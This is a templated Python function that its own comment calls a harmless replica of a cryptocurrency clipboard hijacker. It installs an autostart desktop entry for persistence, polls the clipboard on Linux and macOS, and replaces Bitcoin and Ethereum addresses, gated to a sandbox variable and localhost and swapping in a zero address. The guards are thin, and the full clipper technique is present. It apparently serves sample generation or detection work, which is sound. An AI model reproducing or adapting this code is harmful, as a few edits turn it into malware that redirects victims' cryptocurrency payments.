# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import re
    import subprocess
    import time
    pattern = re.compile(rb'\b(?:bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|0x[0-9a-fA-F]{40})\b')
    try:
        # Started again with the session, as published ones were; what would be started does nothing.
        place = os.path.expanduser('~/.config/autostart')
        os.makedirs(place, exist_ok=True)
        with open(os.path.join(place, '{{folder}}.desktop'), 'w') as file:
            file.write('[Desktop Entry]\nType=Application\nName={{folder}}\nExec=/bin/true {{token}}\n')
    except OSError:
        pass
    for _ in range(min({{n}}, 5)):
        for read, write in ((['xclip', '-selection', 'c', '-o'], ['xclip', '-selection', 'c']), (['wl-paste'], ['wl-copy']), (['pbpaste'], ['pbcopy'])):
            try:
                text = subprocess.run(read, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=0.4).stdout
                if pattern.search(text):
                    subprocess.run(write, input=pattern.sub(b'0x' + b'0' * 40, text), timeout=0.4)
            except Exception:
                continue
        time.sleep(0.2)
